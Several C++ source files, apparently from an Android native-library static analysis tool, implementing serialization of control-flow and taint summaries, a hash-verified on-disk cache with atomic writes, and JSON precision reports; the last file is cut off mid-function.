  bb.call_targets.reserve(calls);
  for (u32 i = 0; i < calls; ++i) bb.call_targets.push_back(r.get_u32());
  const u32 relocs = r.get_count(4);
  bb.call_target_relocatable.reserve(relocs);
  for (u32 i = 0; i < relocs; ++i) {
    bb.call_target_relocatable.push_back(r.get_u8());
  }
  bb.has_indirect_call = r.get_bool();
  bb.is_return = r.get_bool();
  bb.has_indirect_jump = r.get_bool();
  const u8 table_kind = r.get_u8();
  if (table_kind > static_cast<u8>(JumpTableKind::kComputed)) {
    throw serde::DecodeError("bad jump-table kind");
  }
  bb.jump_table.kind = static_cast<JumpTableKind>(table_kind);
  bb.jump_table.table = r.get_u32();
  bb.jump_table.entries = r.get_u32();
  bb.jump_table.image_rel = r.get_bool();
  return bb;
}

void encode_function(serde::Writer& w, const FunctionCfg& fn) {
  w.put_u32(fn.entry);
  w.put_bool(fn.thumb);
  w.put_str(fn.name);
  w.put_u32(fn.lo);
  w.put_u32(fn.hi);
  w.put_u32(static_cast<u32>(fn.blocks.size()));
  for (const auto& [start, bb] : fn.blocks) {
    w.put_u32(start);
    encode_block(w, bb);
  }
  w.put_u32(static_cast<u32>(fn.callees.size()));
  for (const GuestAddr c : fn.callees) w.put_u32(c);
  w.put_u32(static_cast<u32>(fn.mem_accesses.size()));
  for (const MemAccess& m : fn.mem_accesses) {
    w.put_u32(m.pc);
    w.put_u8(static_cast<u8>(m.kind));
    w.put_u32(m.addr);
    w.put_u32(m.size);
    w.put_bool(m.is_store);
    w.put_bool(m.image_rel);
  }
  w.put_bool(fn.has_svc);
  w.put_bool(fn.has_indirect_calls);
  w.put_bool(fn.has_indirect_jumps);
  w.put_bool(fn.truncated);
  w.put_u32(fn.insn_count);
  w.put_u32(fn.resolved_indirect_branches);
  w.put_u32(fn.unresolved_indirect_branches);
  w.put_u32(fn.resolved_indirect_calls);
  w.put_u32(fn.unresolved_indirect_calls);
  w.put_u32(static_cast<u32>(fn.degrade_sites.size()));
  for (const DegradeSite& site : fn.degrade_sites) {
    w.put_u32(site.pc);
    w.put_u8(static_cast<u8>(site.reason));
  }
}

FunctionCfg decode_function(serde::Reader& r) {
  FunctionCfg fn;
  fn.entry = r.get_u32();
  fn.thumb = r.get_bool();
  fn.name = r.get_str();
  fn.lo = r.get_u32();
  fn.hi = r.get_u32();
  const u32 blocks = r.get_count(15);
  for (u32 i = 0; i < blocks; ++i) {
    const GuestAddr start = r.get_u32();
    fn.blocks.emplace(start, decode_block(r));
  }
  const u32 callees = r.get_count(4);
  fn.callees.reserve(callees);
  for (u32 i = 0; i < callees; ++i) fn.callees.push_back(r.get_u32());
  const u32 accesses = r.get_count(14);
  fn.mem_accesses.reserve(accesses);
  for (u32 i = 0; i < accesses; ++i) {
    MemAccess m;
    m.pc = r.get_u32();
    const u8 kind = r.get_u8();
    if (kind > static_cast<u8>(MemAccess::Kind::kUnknown)) {
      throw serde::DecodeError("bad mem-access kind");
    }
    m.kind = static_cast<MemAccess::Kind>(kind);
    m.addr = r.get_u32();
    m.size = r.get_u32();
    m.is_store = r.get_bool();
    m.image_rel = r.get_bool();
    fn.mem_accesses.push_back(m);
  }
  fn.has_svc = r.get_bool();
  fn.has_indirect_calls = r.get_bool();
  fn.has_indirect_jumps = r.get_bool();
  fn.truncated = r.get_bool();
  fn.insn_count = r.get_u32();
  fn.resolved_indirect_branches = r.get_u32();
  fn.unresolved_indirect_branches = r.get_u32();
  fn.resolved_indirect_calls = r.get_u32();
  fn.unresolved_indirect_calls = r.get_u32();
  const u32 sites = r.get_count(8);
  fn.degrade_sites.reserve(sites);
  for (u32 i = 0; i < sites; ++i) {
    DegradeSite site;
    site.pc = r.get_u32();
    const u8 reason = r.get_u8();
    if (reason > static_cast<u8>(DegradeReason::kStaleCallTarget)) {
      throw serde::DecodeError("bad degrade reason");
    }
    site.reason = static_cast<DegradeReason>(reason);
    fn.degrade_sites.push_back(site);
  }
  return fn;
}

void encode_summary(serde::Writer& w, const TaintSummary& s) {
  w.put_u32(s.entry);
  w.put_str(s.name);
  w.put_u16(s.touched_regs);
  w.put_u8(static_cast<u8>(s.mem_kind));
  w.put_u32(static_cast<u32>(s.windows.size()));
  for (const Window& win : s.windows) {
    w.put_u32(win.lo);
    w.put_u32(win.hi);
  }
  w.put_bool(s.has_svc);
  w.put_bool(s.truncated);
  w.put_bool(s.unresolved_calls);
  w.put_u8(s.args_to_ret);
  w.put_u8(s.args_to_mem);
  w.put_u8(s.args_to_call);
  w.put_bool(s.ret_depends_on_mem);
  w.put_bool(s.transparent);
}

TaintSummary decode_summary(serde::Reader& r) {
  TaintSummary s;
  s.entry = r.get_u32();
  s.name = r.get_str();
  s.touched_regs = r.get_u16();
  const u8 kind = r.get_u8();
  if (kind > static_cast<u8>(MemKind::kOpaque)) {
    throw serde::DecodeError("bad mem kind");
  }
  s.mem_kind = static_cast<MemKind>(kind);
  const u32 windows = r.get_count(8);
  s.windows.reserve(windows);
  for (u32 i = 0; i < windows; ++i) {
    Window win;
    win.lo = r.get_u32();
    win.hi = r.get_u32();
    s.windows.push_back(win);
  }
  s.has_svc = r.get_bool();
  s.truncated = r.get_bool();
  s.unresolved_calls = r.get_bool();
  s.args_to_ret = r.get_u8();
  s.args_to_mem = r.get_u8();
  s.args_to_call = r.get_u8();
  s.ret_depends_on_mem = r.get_bool();
  s.transparent = r.get_bool();
  return s;
}

// ---- store file helpers ----------------------------------------------------

struct Header {
  u32 magic = 0;
  u32 version = 0;
  u64 key = 0;
  u64 payload_size = 0;
  u64 payload_hash = 0;
};

void encode_header(serde::Writer& w, const Header& h) {
  w.put_u32(h.magic);
  w.put_u32(h.version);
  w.put_u64(h.key);
  w.put_u64(h.payload_size);
  w.put_u64(h.payload_hash);
}

Header decode_header(std::span<const u8> bytes) {
  serde::Reader r(bytes.first(SummaryStore::kHeaderSize));
  Header h;
  h.magic = r.get_u32();
  h.version = r.get_u32();
  h.key = r.get_u64();
  h.payload_size = r.get_u64();
  h.payload_hash = r.get_u64();
  return h;
}

bool write_all(int fd, const u8* data, std::size_t size) {
  std::size_t done = 0;
  while (done < size) {
    const ssize_t n = ::write(fd, data + done, size - done);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    done += static_cast<std::size_t>(n);
  }
  return true;
}

}  // namespace

std::vector<u8> SummaryStore::encode(const LibrarySummary& lib) {
  serde::Writer w;
  w.put_u64(lib.key);
  w.put_str(lib.name);
  w.put_u32(lib.lifted_base);
  w.put_u32(lib.image_size);
  w.put_u32(static_cast<u32>(lib.program.functions.size()));
  for (const auto& [entry, fn] : lib.program.functions) {
    w.put_u32(entry);
    encode_function(w, fn);
  }
  w.put_u32(static_cast<u32>(lib.index.summaries.size()));
  for (const auto& [entry, s] : lib.index.summaries) {
    w.put_u32(entry);
    encode_summary(w, s);
  }
  w.put_u32(static_cast<u32>(lib.boundaries.size()));
  for (const auto& [entry, bounds] : lib.boundaries) {
    w.put_u32(entry);
    // Sorted so equal summaries always encode to equal bytes regardless of
    // unordered_set iteration order.
    std::vector<GuestAddr> sorted(bounds.begin(), bounds.end());
    std::sort(sorted.begin(), sorted.end());
    w.put_u32(static_cast<u32>(sorted.size()));
    for (const GuestAddr a : sorted) w.put_u32(a);
  }
  return w.take();
}

LibrarySummary SummaryStore::decode(std::span<const u8> payload) {
  serde::Reader r(payload);
  LibrarySummary lib;
  lib.key = r.get_u64();
  lib.name = r.get_str();
  lib.lifted_base = r.get_u32();
  lib.image_size = r.get_u32();
  const u32 functions = r.get_count(20);
  for (u32 i = 0; i < functions; ++i) {
    const GuestAddr entry = r.get_u32();
    lib.program.functions.emplace(entry, decode_function(r));
  }
  const u32 summaries = r.get_count(24);
  for (u32 i = 0; i < summaries; ++i) {
    const GuestAddr entry = r.get_u32();
    lib.index.summaries.emplace(entry, decode_summary(r));
  }
  const u32 boundary_fns = r.get_count(8);
  for (u32 i = 0; i < boundary_fns; ++i) {
    const GuestAddr entry = r.get_u32();
    const u32 count = r.get_count(4);
    std::unordered_set<GuestAddr>& bounds = lib.boundaries[entry];
    bounds.reserve(count);
    for (u32 k = 0; k < count; ++k) bounds.insert(r.get_u32());
  }
  r.expect_end();
  return lib;
}

SummaryStore::SummaryStore(std::string dir) : dir_(std::move(dir)) {
  if (::mkdir(dir_.c_str(), 0755) != 0 && errno != EEXIST) {
    throw std::runtime_error("SummaryStore: cannot create " + dir_ + ": " +
                             std::strerror(errno));
  }
}

std::string SummaryStore::path_for(u64 key) const {
  char name[32];
  std::snprintf(name, sizeof name, "sum_%016llx.nss",
                static_cast<unsigned long long>(key));
  return dir_ + "/" + name;
}

std::shared_ptr<const LibrarySummary> SummaryStore::load(u64 key) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    ++stats_.loads;
  }
  const std::string path = path_for(key);
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) return nullptr;  // absent: a miss, not corruption

  struct stat st{};
  if (::fstat(fd, &st) != 0 || static_cast<std::size_t>(st.st_size) < kHeaderSize) {
    ::close(fd);
    std::lock_guard<std::mutex> lock(mu_);
    ++stats_.corrupt;
    return nullptr;
  }
  const std::size_t size = static_cast<std::size_t>(st.st_size);
  void* map = ::mmap(nullptr, size, PROT_READ, MAP_PRIVATE, fd, 0);
  ::close(fd);
  if (map == MAP_FAILED) {
    std::lock_guard<std::mutex> lock(mu_);
    ++stats_.corrupt;
    return nullptr;
  }

  std::shared_ptr<const LibrarySummary> result;
  const std::span<const u8> bytes(static_cast<const u8*>(map), size);
  // Header, hash and payload are all validated straight off the mapping;
  // the file's bytes are never copied into an intermediate buffer.
  const Header h = decode_header(bytes);
  const std::span<const u8> payload = bytes.subspan(kHeaderSize);
  const bool sane = h.magic == kMagic && h.version == kFormatVersion &&
                    h.key == key && h.payload_size == payload.size() &&
                    h.payload_hash == fnv1a(payload);
  if (sane) {
    try {
      LibrarySummary lib = decode(payload);
      if (lib.key == key) {
        result = std::make_shared<const LibrarySummary>(std::move(lib));
      }
    } catch (const serde::DecodeError&) {
      // fall through: counted as corruption below
    }
  }
  ::munmap(map, size);

  std::lock_guard<std::mutex> lock(mu_);
  if (result != nullptr) {
    ++stats_.hits;
  } else {
    ++stats_.corrupt;
  }
  return result;
}

bool SummaryStore::save(const LibrarySummary& lib) {
  const std::vector<u8> payload = encode(lib);
  Header h;
  h.magic = kMagic;
  h.version = kFormatVersion;
  h.key = lib.key;
  h.payload_size = payload.size();
  h.payload_hash = fnv1a(payload);
  serde::Writer w;
  encode_header(w, h);

  u64 seq = 0;
  {
    std::lock_guard<std::mutex> lock(mu_);
    seq = ++tmp_seq_;
  }
  // Unique per (process, sequence): concurrent worker processes sharing the
  // store never collide on temp names, and the final rename is atomic.
  const std::string tmp = dir_ + "/.nss.tmp." + std::to_string(::getpid()) +
                          "." + std::to_string(seq);
  const auto fail = [&](int fd) {
    if (fd >= 0) ::close(fd);
    ::unlink(tmp.c_str());
    std::lock_guard<std::mutex> lock(mu_);
    ++stats_.write_errors;
    return false;
  };

  const int fd = ::open(tmp.c_str(), O_CREAT | O_EXCL | O_WRONLY, 0644);
  if (fd < 0) return fail(-1);
  if (!write_all(fd, w.bytes().data(), w.bytes().size()) ||
      !write_all(fd, payload.data(), payload.size()) || ::fsync(fd) != 0) {
    return fail(fd);
  }
  ::close(fd);
  if (::rename(tmp.c_str(), path_for(lib.key).c_str()) != 0) return fail(-1);

  std::lock_guard<std::mutex> lock(mu_);
  ++stats_.writes;
  return true;
}

std::vector<u64> SummaryStore::keys() const {
  std::vector<u64> out;
  DIR* dir = ::opendir(dir_.c_str());
  if (dir == nullptr) return out;
  while (struct dirent* e = ::readdir(dir)) {
    const std::string name = e->d_name;
    if (name.size() != 4 + 16 + 4 || name.rfind("sum_", 0) != 0 ||
        name.compare(name.size() - 4, 4, ".nss") != 0) {
      continue;
    }
    char* end = nullptr;
    const std::string hex = name.substr(4, 16);
    const u64 key = std::strtoull(hex.c_str(), &end, 16);
    if (end == hex.c_str() + hex.size()) out.push_back(key);
  }
  ::closedir(dir);
  std::sort(out.begin(), out.end());
  return out;
}

SummaryStore::Stats SummaryStore::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  return stats_;
}

}  // namespace ndroid::static_analysis
