#include "static/summary_cache.h"

#include "static/summary_store.h"

namespace ndroid::static_analysis {

std::shared_ptr<const LibrarySummary> SummaryCache::acquire(
    u64 key, GuestAddr base, const std::function<LibrarySummary()>& lift) {
  std::shared_ptr<Slot> slot;
  bool owner = false;
  {
    std::lock_guard<std::mutex> lock(mu_);
    auto it = slots_.find(key);
    if (it == slots_.end()) {
      slot = std::make_shared<Slot>();
      slots_.emplace(key, slot);
      owner = true;
      ++stats_.misses;
    } else {
      slot = it->second;
      ++stats_.hits;
      std::lock_guard<std::mutex> slot_lock(slot->m);
      if (slot->ready && slot->from_store) ++stats_.store_hits;
    }
  }

  if (owner) {
    try {
      // Two-level lookup: the persistent store first (hash-verified; any
      // corruption reads as a miss and we lift fresh), then the lift.
      std::shared_ptr<const LibrarySummary> lib;
      bool from_store = false;
      if (store_ != nullptr) {
        lib = store_->load(key);
        from_store = lib != nullptr;
      }
      if (lib == nullptr) {
        lib = std::make_shared<const LibrarySummary>(lift());
        if (store_ != nullptr && store_->save(*lib)) {
          std::lock_guard<std::mutex> lock(mu_);
          ++stats_.store_writes;
        }
      }
      if (from_store) {
        std::lock_guard<std::mutex> lock(mu_);
        ++stats_.store_hits;
      }
      {
        std::lock_guard<std::mutex> lock(slot->m);
        slot->lib = std::move(lib);
        slot->from_store = from_store;
        slot->ready = true;
      }
      slot->cv.notify_all();
    } catch (...) {
      {
        std::lock_guard<std::mutex> lock(slot->m);
        slot->failed = true;
        slot->ready = true;
      }
      slot->cv.notify_all();
      // Abandon the slot so a later acquire retries the lift.
      std::lock_guard<std::mutex> lock(mu_);
      auto it = slots_.find(key);
      if (it != slots_.end() && it->second == slot) slots_.erase(it);
      throw;
    }
  }

  std::shared_ptr<const LibrarySummary> lib;
  {
    std::unique_lock<std::mutex> lock(slot->m);
    slot->cv.wait(lock, [&] { return slot->ready; });
    if (slot->failed) {
      // The owner's lift failed after we were counted as a hit; fall back
      // to lifting privately so this caller still makes progress.
      lock.unlock();
      return std::make_shared<const LibrarySummary>(lift());
    }
    lib = slot->lib;
  }

  if (base != lib->lifted_base) {
    {
      std::lock_guard<std::mutex> lock(mu_);
      ++stats_.rebinds;
    }
    return bind_library(std::move(lib), base);
  }
  return lib;
}

std::size_t SummaryCache::warm_from_store() {
  if (store_ == nullptr) return 0;
  std::size_t published = 0;
  for (const u64 key : store_->keys()) {
    std::shared_ptr<const LibrarySummary> lib = store_->load(key);
    if (lib == nullptr) continue;  // corrupt entry: left for a fresh lift
    auto slot = std::make_shared<Slot>();
    slot->lib = std::move(lib);
    slot->from_store = true;
    slot->ready = true;
    std::lock_guard<std::mutex> lock(mu_);
    if (slots_.emplace(key, std::move(slot)).second) ++published;
  }
  return published;
}

SummaryCache::Stats SummaryCache::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  return stats_;
}

std::size_t SummaryCache::size() const {
  std::lock_guard<std::mutex> lock(mu_);
  return slots_.size();
}

void SummaryCache::clear() {
  std::lock_guard<std::mutex> lock(mu_);
  slots_.clear();
  stats_ = Stats{};
}

}  // namespace ndroid::static_analysis
