// Persistent, content-addressed on-disk store of per-library static
// analysis artifacts — the cross-run (and cross-process) half of the
// SummaryCache's amortisation.
//
// Layout: one file per library under the store directory,
//
//   <dir>/sum_<016x key>.nss
//
// where `key` is the existing content hash (library_key: image bytes + JNI
// entry offsets). Each file is a 32-byte header followed by the serialized
// LibrarySummary:
//
//   magic   u32  'NSS1'
//   version u32  kFormatVersion — bumped whenever the payload encoding or
//                the LibrarySummary semantics change; mismatches are
//                rejected exactly like corruption (version skew never
//                deserializes stale facts)
//   key     u64  must equal the key named by the file (and the payload's)
//   size    u64  payload byte count (must equal file size minus header)
//   hash    u64  FNV-1a over the payload bytes
//
// Reads mmap the file and verify magic/version/key/size/hash straight off
// the mapping — no intermediate copy of the file is ever made — then decode
// the payload in place. Any mismatch (truncation, bit flip, version skew,
// wrong key) makes load() return nullptr and count a corruption; the caller
// lifts fresh and save() rewrites the entry.
//
// Writes are atomic: the entry is encoded into a unique tempfile in the
// same directory (".nss.tmp.<pid>.<seq>"), fsync'd, then rename(2)'d over
// the final name. Concurrent readers therefore observe either the complete
// old entry or the complete new one, never a partial write — which is what
// lets many farm worker *processes* share one store directory with no
// locking at all.
#pragma once

#include <memory>
#include <mutex>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "static/library_summary.h"

namespace ndroid::static_analysis {

class SummaryStore {
 public:
  static constexpr u32 kMagic = 0x3153534Eu;  // "NSS1" little-endian
  // v2: TBB/TBH ops, VSA jump tables, precision counters, degrade sites,
  // image-relative windows and relocatable call targets.
  static constexpr u32 kFormatVersion = 2;
  static constexpr std::size_t kHeaderSize = 32;

  struct Stats {
    u64 loads = 0;    // load() calls
    u64 hits = 0;     // load() returned an artifact
    u64 corrupt = 0;  // load() rejected an entry (hash/version/size/decode)
    u64 writes = 0;   // save() completed a rename
    u64 write_errors = 0;
  };

  /// Opens (creating if needed) the store rooted at `dir`. Throws
  /// std::runtime_error if the directory cannot be created.
  explicit SummaryStore(std::string dir);

  SummaryStore(const SummaryStore&) = delete;
  SummaryStore& operator=(const SummaryStore&) = delete;

  /// Loads the entry for `key`, or nullptr when absent or rejected
  /// (truncated, bit-flipped, version-skewed, mis-keyed). Never throws on
  /// bad input — corruption is an expected condition the caller re-lifts
  /// around.
  [[nodiscard]] std::shared_ptr<const LibrarySummary> load(u64 key);

  /// Persists `lib` under its own key via tempfile + atomic rename.
  /// Returns false (and counts a write error) on any I/O failure; the farm
  /// treats the store as best-effort and keeps running off in-memory state.
  bool save(const LibrarySummary& lib);

  /// Keys currently present on disk (directory scan; used to pre-warm an
  /// in-memory cache before forking workers).
  [[nodiscard]] std::vector<u64> keys() const;

  [[nodiscard]] std::string path_for(u64 key) const;
  [[nodiscard]] const std::string& dir() const { return dir_; }
  [[nodiscard]] Stats stats() const;

  /// Payload codec, exposed for the corruption tests (and anyone who wants
  /// to ship a LibrarySummary over a pipe). encode() is deterministic:
  /// equal summaries produce equal bytes. decode() throws serde::DecodeError
  /// on malformed input.
  [[nodiscard]] static std::vector<u8> encode(const LibrarySummary& lib);
  [[nodiscard]] static LibrarySummary decode(std::span<const u8> payload);

 private:
  std::string dir_;
  mutable std::mutex mu_;
  Stats stats_;
  u64 tmp_seq_ = 0;
};

}  // namespace ndroid::static_analysis
