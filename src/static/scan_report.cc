#include "static/scan_report.h"

#include <cstdio>

namespace ndroid::static_analysis {

namespace {

void hex(std::string& out, GuestAddr addr) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "\"0x%x\"", addr);
  out += buf;
}

void escaped(std::string& out, const std::string& s) {
  out += '"';
  for (char c : s) {
    if (c == '"' || c == '\\') out += '\\';
    if (static_cast<unsigned char>(c) >= 0x20) out += c;
  }
  out += '"';
}

template <typename T, typename Fn>
void array(std::string& out, const T& items, Fn emit) {
  out += '[';
  bool first = true;
  for (const auto& item : items) {
    if (!first) out += ',';
    first = false;
    emit(item);
  }
  out += ']';
}

void emit_block(std::string& out, const BasicBlock& bb) {
  out += "{\"start\":";
  hex(out, bb.start);
  out += ",\"end\":";
  hex(out, bb.end);
  out += ",\"insns\":" + std::to_string(bb.insns.size());
  out += ",\"succs\":";
  array(out, bb.succs, [&out](GuestAddr a) { hex(out, a); });
  out += ",\"calls\":";
  array(out, bb.call_targets, [&out](GuestAddr a) { hex(out, a); });
  if (bb.is_return) out += ",\"return\":true";
  if (bb.has_indirect_call) out += ",\"indirect_call\":true";
  if (bb.has_indirect_jump) out += ",\"indirect_jump\":true";
  out += '}';
}

u8 arg_bits(u8 mask) { return static_cast<u8>(mask & 0x0F); }

void emit_summary(std::string& out, const TaintSummary& s) {
  out += "{\"touched_regs\":" + std::to_string(s.touched_regs);
  out += ",\"mem_kind\":\"";
  out += to_string(s.mem_kind);
  out += '"';
  out += ",\"windows\":";
  array(out, s.windows, [&out](const Window& w) {
    out += "{\"lo\":";
    hex(out, w.lo);
    out += ",\"hi\":";
    hex(out, w.hi);
    out += '}';
  });
  out += ",\"args_to_ret\":" + std::to_string(arg_bits(s.args_to_ret));
  out += ",\"args_to_mem\":" + std::to_string(arg_bits(s.args_to_mem));
  out += ",\"args_to_call\":" + std::to_string(arg_bits(s.args_to_call));
  if (s.ret_depends_on_mem) out += ",\"ret_depends_on_mem\":true";
  if (s.has_svc) out += ",\"has_svc\":true";
  if (s.truncated) out += ",\"truncated\":true";
  if (s.unresolved_calls) out += ",\"unresolved_calls\":true";
  if (s.transparent) out += ",\"transparent\":true";
  out += '}';
}

}  // namespace

const char* to_string(MemKind kind) {
  switch (kind) {
    case MemKind::kNone: return "none";
    case MemKind::kStatic: return "static";
    case MemKind::kStack: return "stack";
    case MemKind::kOpaque: return "opaque";
  }
  return "opaque";
}

std::string to_json(const Program& program, const SummaryIndex& index) {
  std::string out = "{\"functions\":[";
  bool first = true;
  for (const auto& [entry, fn] : program.functions) {
    if (!first) out += ',';
    first = false;
    out += "{\"entry\":";
    hex(out, entry);
    out += ",\"name\":";
    escaped(out, fn.name);
    out += ",\"thumb\":";
    out += fn.thumb ? "true" : "false";
    out += ",\"insns\":" + std::to_string(fn.insn_count);
    out += ",\"blocks\":";
    array(out, fn.blocks,
          [&out](const auto& kv) { emit_block(out, kv.second); });
    out += ",\"callees\":";
    array(out, fn.callees, [&out](GuestAddr a) { hex(out, a); });
    const TaintSummary* s = index.find(entry);
    if (s != nullptr) {
      out += ",\"summary\":";
      emit_summary(out, *s);
    }
    out += '}';
  }
  out += "]}";
  return out;
}

}  // namespace ndroid::static_analysis
