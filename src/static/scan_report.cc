#include "static/scan_report.h"

#include <cstdio>

namespace ndroid::static_analysis {

namespace {

void hex(std::string& out, GuestAddr addr) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "\"0x%x\"", addr);
  out += buf;
}

void escaped(std::string& out, const std::string& s) {
  out += '"';
  for (char c : s) {
    if (c == '"' || c == '\\') out += '\\';
    if (static_cast<unsigned char>(c) >= 0x20) out += c;
  }
  out += '"';
}

template <typename T, typename Fn>
void array(std::string& out, const T& items, Fn emit) {
  out += '[';
  bool first = true;
  for (const auto& item : items) {
    if (!first) out += ',';
    first = false;
    emit(item);
  }
  out += ']';
}

void emit_block(std::string& out, const BasicBlock& bb) {
  out += "{\"start\":";
  hex(out, bb.start);
  out += ",\"end\":";
  hex(out, bb.end);
  out += ",\"insns\":" + std::to_string(bb.insns.size());
  out += ",\"succs\":";
  array(out, bb.succs, [&out](GuestAddr a) { hex(out, a); });
  out += ",\"calls\":";
  array(out, bb.call_targets, [&out](GuestAddr a) { hex(out, a); });
  if (bb.is_return) out += ",\"return\":true";
  if (bb.has_indirect_call) out += ",\"indirect_call\":true";
  if (bb.has_indirect_jump) out += ",\"indirect_jump\":true";
  if (bb.jump_table.kind != JumpTableKind::kNone) {
    out += ",\"jump_table\":{\"kind\":\"";
    out += to_string(bb.jump_table.kind);
    out += "\",\"table\":";
    hex(out, bb.jump_table.table);
    out += ",\"entries\":" + std::to_string(bb.jump_table.entries);
    out += '}';
  }
  out += '}';
}

u8 arg_bits(u8 mask) { return static_cast<u8>(mask & 0x0F); }

void emit_summary(std::string& out, const TaintSummary& s) {
  out += "{\"touched_regs\":" + std::to_string(s.touched_regs);
  out += ",\"mem_kind\":\"";
  out += to_string(s.mem_kind);
  out += '"';
  out += ",\"windows\":";
  array(out, s.windows, [&out](const Window& w) {
    out += "{\"lo\":";
    hex(out, w.lo);
    out += ",\"hi\":";
    hex(out, w.hi);
    out += '}';
  });
  out += ",\"args_to_ret\":" + std::to_string(arg_bits(s.args_to_ret));
  out += ",\"args_to_mem\":" + std::to_string(arg_bits(s.args_to_mem));
  out += ",\"args_to_call\":" + std::to_string(arg_bits(s.args_to_call));
  if (s.ret_depends_on_mem) out += ",\"ret_depends_on_mem\":true";
  if (s.has_svc) out += ",\"has_svc\":true";
  if (s.truncated) out += ",\"truncated\":true";
  if (s.unresolved_calls) out += ",\"unresolved_calls\":true";
  if (s.transparent) out += ",\"transparent\":true";
  out += '}';
}

void emit_function_precision(std::string& out, const FunctionCfg& fn) {
  out += "{\"resolved_branches\":" +
         std::to_string(fn.resolved_indirect_branches);
  out += ",\"unresolved_branches\":" +
         std::to_string(fn.unresolved_indirect_branches);
  out += ",\"resolved_calls\":" + std::to_string(fn.resolved_indirect_calls);
  out +=
      ",\"unresolved_calls\":" + std::to_string(fn.unresolved_indirect_calls);
  out += ",\"degrade\":";
  array(out, fn.degrade_sites, [&out](const DegradeSite& site) {
    out += "{\"pc\":";
    hex(out, site.pc);
    out += ",\"reason\":\"";
    out += to_string(site.reason);
    out += "\"}";
  });
  out += '}';
}

/// Why a function is not transparent when its lift never degraded: the
/// facts are exact, the function simply has observable effects. Mirrors the
/// transparency definition in summary.h so the union of these conditions
/// plus the degrade chain always yields at least one reason.
void synthesize_reasons(std::string& out, const FunctionCfg& fn,
                        const TaintSummary& s, const char* indent) {
  if (s.mem_kind != MemKind::kNone) {
    out += indent;
    out += "why: touches memory (";
    out += to_string(s.mem_kind);
    if (s.mem_kind == MemKind::kOpaque && fn.degrade_sites.empty()) {
      out += ", inherited from a callee";
    }
    out += ")\n";
  }
  if (!fn.callees.empty() || fn.has_indirect_calls) {
    out += indent;
    out += "why: has call sites (";
    out += std::to_string(fn.callees.size());
    out += " resolved callee(s))\n";
  }
  if (s.has_svc) {
    out += indent;
    out += "why: crosses the kernel boundary (svc)\n";
  }
  if (s.unresolved_calls && fn.unresolved_indirect_calls == 0) {
    out += indent;
    out += "why: inherits unresolved calls from a callee\n";
  }
  if (arg_bits(s.args_to_ret) != 0) {
    out += indent;
    out += "why: return value depends on arguments\n";
  }
  if (s.ret_depends_on_mem) {
    out += indent;
    out += "why: return value depends on memory\n";
  }
}

}  // namespace

const char* to_string(MemKind kind) {
  switch (kind) {
    case MemKind::kNone: return "none";
    case MemKind::kStatic: return "static";
    case MemKind::kStack: return "stack";
    case MemKind::kOpaque: return "opaque";
  }
  return "opaque";
}

void PrecisionReport::accumulate(const PrecisionReport& other) {
  functions += other.functions;
  transparent += other.transparent;
  opaque_summaries += other.opaque_summaries;
  truncated += other.truncated;
  degraded += other.degraded;
  for (std::size_t i = 0; i < 4; ++i) {
    mem_kind_counts[i] += other.mem_kind_counts[i];
  }
  resolved_indirect_branches += other.resolved_indirect_branches;
  unresolved_indirect_branches += other.unresolved_indirect_branches;
  resolved_indirect_calls += other.resolved_indirect_calls;
  unresolved_indirect_calls += other.unresolved_indirect_calls;
  for (std::size_t i = 0; i < kDegradeReasonCount; ++i) {
    reason_counts[i] += other.reason_counts[i];
  }
}

PrecisionReport precision_report(const Program& program,
                                 const SummaryIndex& index) {
  PrecisionReport r;
  for (const auto& [entry, fn] : program.functions) {
    ++r.functions;
    if (fn.truncated) ++r.truncated;
    if (!fn.degrade_sites.empty()) ++r.degraded;
    r.resolved_indirect_branches += fn.resolved_indirect_branches;
    r.unresolved_indirect_branches += fn.unresolved_indirect_branches;
    r.resolved_indirect_calls += fn.resolved_indirect_calls;
    r.unresolved_indirect_calls += fn.unresolved_indirect_calls;
    for (const DegradeSite& site : fn.degrade_sites) {
      ++r.reason_counts[static_cast<std::size_t>(site.reason)];
    }
    const TaintSummary* s = index.find(entry);
    if (s == nullptr) continue;
    if (s->transparent) ++r.transparent;
    if (s->opaque()) ++r.opaque_summaries;
    ++r.mem_kind_counts[static_cast<std::size_t>(s->mem_kind)];
  }
  return r;
}

std::string to_json(const PrecisionReport& r) {
  std::string out = "{\"functions\":" + std::to_string(r.functions);
  out += ",\"transparent\":" + std::to_string(r.transparent);
  out += ",\"opaque_summaries\":" + std::to_string(r.opaque_summaries);
  out += ",\"truncated\":" + std::to_string(r.truncated);
  out += ",\"degraded\":" + std::to_string(r.degraded);
  out += ",\"mem_kinds\":{";
  for (std::size_t i = 0; i < 4; ++i) {
    if (i != 0) out += ',';
    out += '"';
    out += to_string(static_cast<MemKind>(i));
    out += "\":" + std::to_string(r.mem_kind_counts[i]);
  }
  out += "},\"branches\":{\"resolved\":" +
         std::to_string(r.resolved_indirect_branches);
  out += ",\"unresolved\":" + std::to_string(r.unresolved_indirect_branches);
  out += "},\"calls\":{\"resolved\":" +
         std::to_string(r.resolved_indirect_calls);
  out += ",\"unresolved\":" + std::to_string(r.unresolved_indirect_calls);
  out += "},\"reasons\":{";
  bool first = true;
  for (std::size_t i = 0; i < kDegradeReasonCount; ++i) {
    if (r.reason_counts[i] == 0) continue;
    if (!first) out += ',';
    first = false;
    out += '"';
    out += to_string(static_cast<DegradeReason>(i));
    out += "\":" + std::to_string(r.reason_counts[i]);
  }
  out += "}}";
  return out;
}

std::string to_json(const Program& program, const SummaryIndex& index) {
  std::string out = "{\"functions\":[";
  bool first = true;
  for (const auto& [entry, fn] : program.functions) {
    if (!first) out += ',';
    first = false;
    out += "{\"entry\":";
    hex(out, entry);
    out += ",\"name\":";
    escaped(out, fn.name);
    out += ",\"thumb\":";
    out += fn.thumb ? "true" : "false";
    out += ",\"insns\":" + std::to_string(fn.insn_count);
    out += ",\"blocks\":";
    array(out, fn.blocks,
          [&out](const auto& kv) { emit_block(out, kv.second); });
    out += ",\"callees\":";
    array(out, fn.callees, [&out](GuestAddr a) { hex(out, a); });
    out += ",\"precision\":";
    emit_function_precision(out, fn);
    const TaintSummary* s = index.find(entry);
    if (s != nullptr) {
      out += ",\"summary\":";
      emit_summary(out, *s);
    }
    out += '}';
  }
  out += "],\"precision\":";
